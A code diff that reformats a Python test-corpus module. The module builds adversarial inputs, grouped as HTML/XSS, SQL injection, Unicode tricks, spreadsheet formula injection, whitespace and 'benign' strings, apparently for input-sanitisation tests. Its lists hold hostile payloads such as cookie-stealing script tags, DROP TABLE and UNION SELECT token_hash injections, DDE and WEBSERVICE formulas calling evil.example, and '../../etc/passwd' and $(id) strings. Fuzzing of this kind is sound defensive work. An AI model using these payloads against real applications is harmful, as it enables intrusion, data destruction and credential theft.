@@ -26,7 +26,7 @@ HTML = [
     "<img src=x onerror=alert(1)>",
     "<svg onload=alert(1)>",
     "<iframe src=javascript:alert(1)></iframe>",
-    "<a href=\"javascript:alert(1)\">click</a>",
+    '<a href="javascript:alert(1)">click</a>',
     "<h1>HEADING</h1>",
     "<table><tr><td>cell</td></tr></table>",
     "<b>bold</b><i>it</i><u>u</u>",
@@ -37,7 +37,7 @@ HTML = [
     "<meta http-equiv=refresh content='0;url=https://evil.example'>",
     "<form action=https://evil.example><input name=p></form>",
     "<!-- comment --><p>para</p>",
-    "\"><script>alert(document.cookie)</script>",
+    '"><script>alert(document.cookie)</script>',
     "'><img src=x onerror=alert(1)//",
     "&lt;script&gt;alert(1)&lt;/script&gt;",
     "<scr<script>ipt>alert(1)</scr</script>ipt>",
@@ -97,25 +97,37 @@ STREAMLIT = [
 
 SQL = [
     "'; DROP TABLE notes; --",
-    "\"; DELETE FROM votes; --",
+    '"; DELETE FROM votes; --',
     "1' OR '1'='1",
     "1; UPDATE events SET status='closed'",
     "Robert'); DROP TABLE participants;--",
     "' UNION SELECT token_hash FROM participants --",
     "%' AND 1=1 --",
     "\\'; ATTACH DATABASE '/tmp/x.db' AS x; --",
-    "?", "?, ?, ?", ":name", "@param", "$1",
-    "NULL", "null", "None", "undefined", "NaN", "Infinity", "-0", "1e309",
-    "0x7fffffffffffffff", "-9223372036854775809",
+    "?",
+    "?, ?, ?",
+    ":name",
+    "@param",
+    "$1",
+    "NULL",
+    "null",
+    "None",
+    "undefined",
+    "NaN",
+    "Infinity",
+    "-0",
+    "1e309",
+    "0x7fffffffffffffff",
+    "-9223372036854775809",
 ]
 
 UNICODE = [
-    "abc\u202edcba",                       # right-to-left override
+    "abc\u202edcba",  # right-to-left override
     "\u202egnp.exe",
     "\u2066isolate\u2069 \u2067rtl\u2069",
-    "safe\u200bword",                      # zero-width space
+    "safe\u200bword",  # zero-width space
     "\u200c\u200d\u2060\ufeffjoiners",
-    "\u200b\u200b\u200b",                   # only zero-width
+    "\u200b\u200b\u200b",  # only zero-width
     "\ufeff",
     "NUL\x00inside",
     "\x00",
@@ -124,17 +136,17 @@ UNICODE = [
     "del\x7f c1\x85\x9b",
     "vertical\x0btab\x0cfeed",
     "line\u2028sep\u2029para",
-    "e\u0301",                               # NFD: é
-    "A\u030a",                               # NFD: Å
-    "\u212b",                                # Angstrom sign (NFC → Å)
+    "e\u0301",  # NFD: é
+    "A\u030a",  # NFD: Å
+    "\u212b",  # Angstrom sign (NFC → Å)
     "\ufb01 ligature",
     "Z" + "\u0336\u0335\u0334" * 30 + "algo",
     "x" + "\u0301" * 5000,
     "".join(c + "\u0300\u0301\u0302\u0303\u0304\u0305" for c in "combining flood"),
-    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",   # family ZWJ
-    "\U0001f3f3\ufe0f\u200d\U0001f308",                              # rainbow flag
-    "\U0001f44d\U0001f3fd",                                          # skin tone
-    "\U0001f1ec\U0001f1e7\U0001f1fa\U0001f1e6",                      # flags
+    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",  # family ZWJ
+    "\U0001f3f3\ufe0f\u200d\U0001f308",  # rainbow flag
+    "\U0001f44d\U0001f3fd",  # skin tone
+    "\U0001f1ec\U0001f1e7\U0001f1fa\U0001f1e6",  # flags
     "\U0001f9d1\u200d\U0001f4bb" * 50,
     "\ud800 lone surrogate",
     "\udfff",
@@ -162,7 +174,7 @@ UNICODE = [
 
 FORMULA = [
     "=1+1",
-    "=HYPERLINK(\"https://evil.example\",\"click\")",
+    '=HYPERLINK("https://evil.example","click")',
     "=cmd|' /C calc'!A0",
     "+1+1",
     "+SUM(A1:A9)",
@@ -175,13 +187,13 @@ FORMULA = [
     "\r=1+1",
     "\n=1+1",
     " =1+1",
-    "=IMPORTXML(\"https://evil.example\",\"//a\")",
-    "=WEBSERVICE(\"https://evil.example\")",
-    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
-    "\"=1+1\"",
+    '=IMPORTXML("https://evil.example","//a")',
+    '=WEBSERVICE("https://evil.example")',
+    '=DDE("cmd";"/C calc";"!A0")',
+    '"=1+1"',
     "'=1+1",
     "a,b,c\n1,2,3",
-    "\"quoted\", \"and\"\"escaped\"",
+    '"quoted", "and""escaped"',
     "semi;colon;separated",
     "line one\r\nline two",
     "-",
@@ -189,8 +201,18 @@ FORMULA = [
 ]
 
 WHITESPACE = [
-    "", " ", "   ", "\n", "\n\n\n", "\t", "\t\t \n", "\r\n", "\u2003\u2002",
-    "\u00a0", " \u200b ", "\u3000",
+    "",
+    " ",
+    "   ",
+    "\n",
+    "\n\n\n",
+    "\t",
+    "\t\t \n",
+    "\r\n",
+    "\u2003\u2002",
+    "\u00a0",
+    " \u200b ",
+    "\u3000",
 ]
 
 LONG = [
@@ -219,7 +241,7 @@ BENIGN = [
     "C:\\Users\\admin\\secret.txt",
     "../../etc/passwd",
     "%s %d %n {0} {{x}} ${HOME} `whoami` $(id)",
-    "O'Brien said \"hello\"",
+    'O\'Brien said "hello"',
 ]
 
 
@@ -227,8 +249,14 @@ def build() -> list[tuple[str, str]]:
     """The corpus as (name, text) pairs, always in the same order."""
     out: list[tuple[str, str]] = []
     groups = {
-        "html": HTML, "markdown": MARKDOWN, "streamlit": STREAMLIT, "sql": SQL,
-        "unicode": UNICODE, "formula": FORMULA, "whitespace": WHITESPACE, "benign": BENIGN,
+        "html": HTML,
+        "markdown": MARKDOWN,
+        "streamlit": STREAMLIT,
+        "sql": SQL,
+        "unicode": UNICODE,
+        "formula": FORMULA,
+        "whitespace": WHITESPACE,
+        "benign": BENIGN,
     }
     for group, texts in groups.items():
         out.extend((f"{group}_{i:02d}", t) for i, t in enumerate(texts))
@@ -248,9 +276,7 @@ def _combinations() -> list[tuple[str, str]]:
         "padded": lambda s: "  \n\t" + s + "\n\t  ",
     }
     payloads = [HTML[0], HTML[2], MARKDOWN[0], MARKDOWN[6], MARKDOWN[9], MARKDOWN[14], STREAMLIT[0], SQL[0]]
-    return [
-        (f"combo_{trick}_{i}", wrap(p)) for trick, wrap in hide.items() for i, p in enumerate(payloads)
-    ]
+    return [(f"combo_{trick}_{i}", wrap(p)) for trick, wrap in hide.items() for i, p in enumerate(payloads)]
 
 
 def accepted(limit: int) -> list[str]:
@@ -273,8 +299,21 @@ def by_name() -> dict[str, str]:
 def sample(step: int = 5) -> list[tuple[str, str]]:
     """Every `step`-th short entry plus the key attack payloads: for slow (browser) tests."""
     entries = [(n, t) for n, t in build() if len(t) <= 2000]
-    keys = {"html_00", "html_02", "html_05", "html_06", "html_07", "markdown_00", "markdown_02",
-            "markdown_06", "markdown_09", "markdown_14", "streamlit_00", "streamlit_03", "streamlit_10"}
+    keys = {
+        "html_00",
+        "html_02",
+        "html_05",
+        "html_06",
+        "html_07",
+        "markdown_00",
+        "markdown_02",
+        "markdown_06",
+        "markdown_09",
+        "markdown_14",
+        "streamlit_00",
+        "streamlit_03",
+        "streamlit_10",
+    }
     return [e for i, e in enumerate(entries) if i % step == 0 or e[0] in keys]
 
 
@@ -282,8 +321,11 @@ def snapshot_entries() -> list[dict]:
     """What the snapshot file holds for each entry."""
     rows = []
     for name, text in build():
-        row: dict = {"name": name, "length": len(text),
-                     "sha256": hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()}
+        row: dict = {
+            "name": name,
+            "length": len(text),
+            "sha256": hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest(),
+        }
         if len(text) <= _VERBATIM_MAX:
             row["text"] = text
         rows.append(row)
